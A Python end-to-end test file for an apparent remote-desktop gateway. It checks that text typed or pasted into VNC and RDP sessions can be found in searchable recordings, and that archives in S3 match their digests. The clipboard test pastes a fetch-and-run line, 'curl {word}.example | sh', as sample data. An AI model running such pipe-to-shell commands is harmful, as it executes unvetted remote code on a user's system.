"""From opening a desktop in a browser to finding a word of it, on real parts: guacd, RDP and VNC, S3, Chromium."""

import hashlib
import secrets
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest
from playwright.sync_api import Browser, Locator, Page, expect

from gateway.core.policy.access import Role
from gateway.storage.encryption.layout import MAGIC
from tests.e2e.browser import signed_in
from tests.e2e.gate import Gate, wait_for
from tests.parts.desktops import RdpDesktop, VncDesktop
from tests.parts.s3 import S3Server

pytestmark = pytest.mark.timeout(400)

SOON = 30_000
# Letters and digits OCR engines do not take for one another.
ALPHABET = "abcdefhkmnprtuvwxy"

# Mean brightness of the video's picture at this moment, 0 to 255.
BRIGHTNESS = """video => {
  const canvas = document.createElement('canvas');
  canvas.width = 160; canvas.height = 100;
  const context = canvas.getContext('2d');
  context.drawImage(video, 0, 0, 160, 100);
  const data = context.getImageData(0, 0, 160, 100).data;
  let sum = 0;
  for (let i = 0; i < data.length; i += 4) sum += data[i] + data[i + 1] + data[i + 2];
  return sum / (data.length / 4 * 3);
}"""


@pytest.fixture
def gate(live_site: Gate) -> Gate:
    return live_site


@pytest.mark.parametrize("kind", [VncDesktop, RdpDesktop], ids=["vnc", "rdp"])
def test_a_word_typed_in_a_remote_terminal_is_found_where_it_was_typed(
    kind: type[VncDesktop | RdpDesktop], gate: Gate, s3_server: S3Server, browser: Browser, tmp_path: Path
) -> None:
    word = "".join(secrets.choice(ALPHABET) for _ in range(9))
    name = f"{kind.__name__} {word[:4]}"
    with kind(tmp_path / "desktop") as desktop:
        gate.add_target(name, desktop.target)
        typed = type_in_terminal(browser, gate, name, f"echo {word}", tmp_path)
    row = gate.finished(name)
    assert row["searchable_seconds"] > 0
    began_ms, ended_ms = ((at - datetime.fromisoformat(row["started_at"])).total_seconds() * 1000 for at in typed)

    page = signed_in(browser, gate, "auditor")
    position_ms = open_hit(page, word)
    # The recording's time begins at the first frame, its `started_at` before the connection: the position is the smaller.
    assert began_ms - 2000 < position_ms < ended_ms + 2000, f"stands at {position_ms}, {began_ms} to {ended_ms}"
    assert page.get_by_label("Recording", exact=True).evaluate(BRIGHTNESS) > 3
    page.screenshot(path=tmp_path / "player.png")
    check_archive(gate, s3_server, row["id"])


def test_what_was_pasted_in_the_browser_is_found_as_pasted(gate: Gate, browser: Browser, tmp_path: Path) -> None:
    word = "".join(secrets.choice(ALPHABET) for _ in range(9))
    with VncDesktop(tmp_path / "desktop") as desktop:
        gate.add_target(f"Paste {word}", desktop.target)
        page = signed_in(browser, gate, "operator")
        open_target(page, f"Paste {word}")
        page.get_by_test_id("connection-state").hover()
        page.get_by_role("button", name="Clipboard").click()
        page.get_by_label("To the target").fill(f"curl {word}.example | sh")
        page.get_by_role("button", name="Send to target").click()
        page.keyboard.press("Escape")
        disconnect(page)
    gate.finished(f"Paste {word}")

    page = signed_in(browser, gate, "auditor")
    open_hit(page, f"clipboard:{word}", word)
    for tab in ("Hits (1)", "Transcript"):
        page.get_by_role("tab", name=tab).click()
        pasted = page.get_by_role("button", name=word)
        expect(pasted).to_contain_text("Pasted to the target", timeout=SOON)
        expect(pasted).to_contain_text("text/plain, 27 B")


def type_in_terminal(browser: Browser, gate: Gate, target: str, line: str, folder: Path) -> tuple[datetime, datetime]:
    """Open the target in the browser, type a line, disconnect; returns when the first and the last key were pressed."""
    page = signed_in(browser, gate, "operator")
    display = open_target(page, target)
    page.wait_for_timeout(1500)
    display.click(position={"x": 300, "y": 200})
    began_at = datetime.now(UTC)
    page.keyboard.type(line, delay=40)
    page.keyboard.press("Enter")
    typed_at = datetime.now(UTC)
    page.wait_for_timeout(2500)
    page.screenshot(path=folder / "desktop.png")
    disconnect(page)
    return began_at, typed_at


def open_target(page: Page, target: str) -> Locator:
    """Open the target's desktop; returns its display once it is connected."""
    page.get_by_role("link", name=f"Open {target}").or_(page.get_by_role("button", name=f"Open {target}")).click()
    display = page.get_by_test_id("display")
    expect(display).to_be_visible(timeout=SOON)
    expect(page.get_by_test_id("connection-state")).to_have_attribute("data-state", "connected", timeout=SOON)
    return display


def disconnect(page: Page) -> None:
    """End the session from the browser's side."""
    page.get_by_test_id("connection-state").hover()  # the bar may have shrunk
    page.get_by_role("button", name="Disconnect").click()
    expect(page.get_by_text("Session ended")).to_be_visible(timeout=SOON)
    page.context.close()


def open_hit(page: Page, query: str, word: str | None = None) -> float:
    """Search, open the hit with the word, wait for the picture; returns where the video stands, in ms."""
    word = word or query
    page.goto("/search")
    box = page.get_by_label("Search recordings")
    box.fill(query)
    box.press("Enter")
    hit = page.get_by_role("listitem").filter(has_text=word).first
    expect(hit).to_be_visible(timeout=SOON)
    hit.get_by_role("link").first.click()
    video = page.get_by_label("Recording", exact=True)
    expect(video).to_be_visible(timeout=SOON)
    # Asked from outside: the page's policy forbids the evaluation that Playwright's own waiting needs.
    wait_for("a picture", lambda: bool(video.evaluate("video => video.readyState >= 2 && !video.seeking")), 30)
    assert "t" in parse_qs(urlsplit(page.evaluate("location.href")).query)
    position: float = video.evaluate("video => video.currentTime * 1000")
    return position


def check_archive(gate: Gate, server: S3Server, recording_id: str) -> None:
    """The original is what was recorded; every object is in the bucket with its digest, and in clear the manifest alone."""
    with gate.client(Role.COMPLIANCE) as compliance:
        recording = compliance.get(f"/api/recordings/{recording_id}").json()
        original = compliance.get(f"/api/recordings/{recording_id}/original").content
    assert hashlib.sha256(original).hexdigest() == recording["digest"]
    assert {"manifest.jsonl", "video.mp4"} <= {row["name"] for row in recording["archive"]}
    client, bucket = server.client(), gate.env["REELGATE_S3_BUCKET"]
    bodies: dict[str, bytes] = {}
    for row in recording["archive"]:
        bodies[row["name"]] = client.get_object(Bucket=bucket, Key=row["key"])["Body"].read()
        assert hashlib.sha256(bodies[row["name"]]).hexdigest() == row["sha256"], row["name"]
    assert [name for name, body in bodies.items() if not body.startswith(MAGIC)] == ["manifest.jsonl"]
